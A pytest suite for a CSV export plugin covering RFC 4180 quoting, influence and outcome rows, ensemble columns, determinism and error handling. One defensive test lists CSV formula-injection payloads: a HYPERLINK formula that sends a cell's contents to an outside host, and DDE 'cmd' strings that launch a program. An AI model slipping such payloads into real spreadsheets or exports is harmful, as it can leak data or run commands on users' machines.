"""multilat-csv: registration, RFC 4180, influences, outcomes, determinism, failures."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import multilat_csv
import pytest
from hypothesis import given
from hypothesis import strategies as st
from multilat_csv import (
    CSV_FORMAT,
    ENSEMBLE_COLUMNS,
    INFLUENCE_COLUMNS,
    OUTCOME_COLUMNS,
    quote_of,
    render,
    text_cell,
    write_rows,
)

import multilat.plugins
from multilat.assess import assess, ensemble
from multilat.cli import main
from multilat.formats import Document, Report
from multilat.knowledge import KnowledgeBase
from multilat.model import (
    Citation,
    Fragment,
    Influence,
    Institution,
    Scenario,
    Section,
    Source,
    Text,
    Trend,
)
from multilat.plugins import load_formats
from multilat.testing import assert_render_fails, plugin_host

PLUGIN = "multilat-csv"


def cite(paragraph: int, quote: str) -> Citation:
    return Citation(source="note", section="intro", paragraph=paragraph, quote=quote)


QUOTES = ('Zij zei: "nee", en dat was dat.', "tweede, derde")


def objects(quotes: tuple[str, str] = QUOTES) -> list[object]:
    note = Source(
        id="note",
        kind="note",
        title="A note",
        sections=[Section(slug="intro", title="Intro", incipits=["One", "Two", "Three"])],
    )
    club = Institution(id="club", kind="alliance", name=Text(en="The Club"))
    cuts = Trend(id="cuts", name=Text(en="Cuts"), citations=[cite(1, "bezuinigen")])
    mood = Trend(id="mood", name=Text(en="Mood"), citations=[cite(1, "stemming")])
    return [
        note,
        club,
        cuts,
        mood,
        Influence(
            id="cuts-split-club",
            cause="cuts",
            effect="club",
            dimension="cohesion",
            weight=-0.75,
            horizon="long",
            confidence="high",
            mechanism=Text(en="Cuts split"),
            citations=[cite(2, quotes[0]), cite(3, quotes[1])],
        ),
        Influence(
            id="cuts-sour-mood",
            cause="cuts",
            effect="mood",
            weight=0.25,
            horizon="short",
            confidence="low",
            mechanism=Text(en="Cuts sour the mood"),
            citations=[cite(2, "zuur")],
        ),
        Scenario(
            id="deep-cuts",
            name=Text(en="Deep cuts"),
            description=Text(en="Cuts at their strongest."),
            levels={"cuts": 1.0},
        ),
    ]


def build(quotes: tuple[str, str] = QUOTES) -> KnowledgeBase:
    kb = KnowledgeBase.build({"hand-built": Fragment.of(objects(quotes))})
    assert kb.problems == ()
    return kb


@pytest.fixture(scope="module")
def kb() -> KnowledgeBase:
    return build()


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# -- registration -------------------------------------------------------------------


def test_the_format_is_registered_and_says_what_it_renders() -> None:
    formats = load_formats(strict=True, host=plugin_host({PLUGIN: multilat_csv}))
    assert sorted(formats) == ["csv", "json", "text"]
    fmt = formats["csv"]
    assert (fmt.media_type, fmt.suffix) == ("text/csv; charset=utf-8; header=present", ".csv")
    assert fmt.documents == frozenset(Document)


def test_multilat_plugins_lists_it(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(multilat.plugins, "_default_host", plugin_host({PLUGIN: multilat_csv}))
    assert main(["plugins"]) == 0
    out = capsys.readouterr().out.splitlines()
    at = out.index(PLUGIN)
    assert out[at + 1 : at + 3] == ["  hooks: multilat_formats", "  contributes: formats: csv"]


# -- RFC 4180 -----------------------------------------------------------------------


@given(st.lists(st.lists(st.text(), min_size=1, max_size=5), min_size=1, max_size=8))
def test_the_csv_module_reads_back_what_was_written(rows: list[list[str]]) -> None:
    text = write_rows(rows)
    # A row of one empty field is written as a quoted "" so that it survives.
    assert read(text) == rows


@given(st.lists(st.text(), min_size=1, max_size=6))
def test_records_end_in_crlf_and_line_breaks_only_inside_quotes(cells: list[str]) -> None:
    text = write_rows([cells, ["after"]])
    assert text.endswith("after\r\n")
    inside = False
    for i, char in enumerate(text):
        if char == '"':
            inside = not inside
        elif char in "\r\n" and not inside:
            # Outside a quoted field a line break is a record's CRLF, nothing else.
            assert text[i : i + 2] == "\r\n" or text[i - 1 : i + 1] == "\r\n"
    assert not inside


def test_quoting_examples() -> None:
    assert write_rows([["a", "b,c", 'say "x"', "two\nlines", ""]]) == (
        'a,"b,c","say ""x""","two\nlines",\r\n'
    )


# -- the knowledge base -------------------------------------------------------------


def test_one_row_per_influence(kb: KnowledgeBase) -> None:
    rows = read(render(Report(kb)))
    assert rows[0] == list(INFLUENCE_COLUMNS)
    assert rows[1:] == [
        [
            "cuts-sour-mood", "cuts", "mood", "", "short", "0.25", "low",
            "note", "intro", "2", "zuur",
        ],
        [
            "cuts-split-club", "cuts", "club", "cohesion", "long", "-0.75", "high",
            "note\nnote", "intro\nintro", "2\n3", 'Zij zei: "nee", en dat was dat.\ntweede, derde',
        ],
    ]


_QUOTE_TEXT = st.text(
    st.characters(codec="utf-8", exclude_categories=["Cs"]), min_size=1
).filter(lambda t: " ".join(t.split()) != "")


@given(_QUOTE_TEXT, _QUOTE_TEXT)
def test_quotes_read_back_exactly(first: str, second: str) -> None:
    kb = build((first, second))
    rows = read(render(Report(kb)))
    (influence,) = (row for row in rows if row[0] == "cuts-split-club")
    cell = dict(zip(INFLUENCE_COLUMNS, influence, strict=True))
    folded = [c.quote for c in kb["cuts-split-club"].citations]
    assert quote_of(cell["quote"]).split("\n") == folded
    assert cell["paragraph"].split("\n") == ["2", "3"]


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@given(st.text())
def test_a_text_cell_is_never_a_formula_and_gives_its_text_back(text: str) -> None:
    cell = text_cell(text)
    assert not cell.startswith(_FORMULA_START)
    assert quote_of(cell) == text
    if not text.startswith((*_FORMULA_START, "'")):
        assert cell == text  # nothing added where nothing could be read as a formula


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://example.org/?"&A1, "click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ],
)
def test_a_quote_that_would_be_a_formula_is_written_as_text(attack: str) -> None:
    # Quotes are content, and a plugin's content is untrusted input.
    kb = build((attack, "tweede"))
    rows = read(render(Report(kb)))
    (influence,) = (row for row in rows if row[0] == "cuts-split-club")
    cell = dict(zip(INFLUENCE_COLUMNS, influence, strict=True))["quote"]

    assert cell == "'" + attack + "\ntweede"
    assert quote_of(cell).split("\n") == [attack, "tweede"]
    # Numbers keep their sign: a spreadsheet reads "-0.5" as the number it is.
    assert all(not row[5].startswith("'") for row in rows[1:])


def test_the_language_does_not_change_the_bytes(kb: KnowledgeBase) -> None:
    assert CSV_FORMAT.render_bytes(Report(kb, lang="en")) == CSV_FORMAT.render_bytes(
        Report(kb, lang="nl")
    )


# -- assessments --------------------------------------------------------------------


def test_one_row_per_outcome(kb: KnowledgeBase) -> None:
    result = assess(kb, scenario="deep-cuts")
    rows = read(render(Report(kb, assessment=result)))
    assert rows[0] == list(OUTCOME_COLUMNS)
    keys = [row[0] for row in rows[1:]]
    assert keys == sorted(o.key for o in result.outcomes)
    cohesion = next(row for row in rows if row[0] == "club.cohesion")
    outcome = result.outcome("club", "cohesion")
    assert cohesion[1:3] == ["club", "cohesion"]
    assert [float(v) for v in cohesion[3:]] == pytest.approx(
        [outcome.level, outcome.baseline, outcome.change], abs=1e-6
    )
    assert all(len(v.split(".")[1]) == 6 for v in cohesion[3:])


def test_the_ensemble_adds_its_interval(kb: KnowledgeBase) -> None:
    result = assess(kb, scenario="deep-cuts")
    spread = ensemble(kb, scenario="deep-cuts", n=200, seed=4)
    rows = read(render(Report(kb, assessment=result, ensemble=spread)))
    assert rows[0] == [*OUTCOME_COLUMNS, *ENSEMBLE_COLUMNS]
    row = dict(zip(rows[0], next(r for r in rows if r[0] == "club.cohesion"), strict=True))
    drawn = spread.outcome("club", "cohesion")
    assert float(row["mean"]) == pytest.approx(drawn.mean, abs=1e-6)
    assert float(row["level_p05"]) == pytest.approx(drawn.quantile(0.05), abs=1e-6)
    assert float(row["level_p95"]) == pytest.approx(drawn.quantile(0.95), abs=1e-6)
    assert float(row["p_decline"]) == pytest.approx(drawn.p_decline, abs=1e-6)
    assert float(row["level_p05"]) <= float(row["mean"]) <= float(row["level_p95"])


def test_an_ensemble_alone_leaves_the_levels_empty(kb: KnowledgeBase) -> None:
    spread = ensemble(kb, scenario="deep-cuts", n=50, seed=4)
    rows = read(render(Report(kb, ensemble=spread)))
    assert rows[0] == [*OUTCOME_COLUMNS, *ENSEMBLE_COLUMNS]
    assert all(row[3:6] == ["", "", ""] and row[6] for row in rows[1:])


# -- determinism and failures ------------------------------------------------------------


def test_same_bytes_twice_and_in_any_plugin_order(kb: KnowledgeBase) -> None:
    import multilat_markdown

    one = load_formats(host=plugin_host({PLUGIN: multilat_csv, "md": multilat_markdown}))
    other = load_formats(host=plugin_host({"md": multilat_markdown, PLUGIN: multilat_csv}))
    result = assess(kb, scenario="deep-cuts")
    spread = ensemble(kb, scenario="deep-cuts", n=100, seed=1)
    for report in (Report(kb), Report(kb, assessment=result, ensemble=spread)):
        first = one["csv"].render_bytes(report)
        assert first == one["csv"].render_bytes(report) == other["csv"].render_bytes(report)


def test_a_failing_render_is_named_and_writes_nothing(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    def broken(kb: KnowledgeBase) -> list[list[str]]:
        raise RuntimeError("disk\nfull")

    monkeypatch.setattr(multilat_csv, "influence_rows", broken)
    monkeypatch.setattr(multilat.plugins, "_default_host", plugin_host({PLUGIN: multilat_csv}))
    assert_render_fails(
        ["report", "--format", "csv", "-o", str(tmp_path / "kb.csv")],
        "multilat: error: format 'csv' failed: RuntimeError: disk full\n",
        out=tmp_path,
        capsys=capsys,
    )
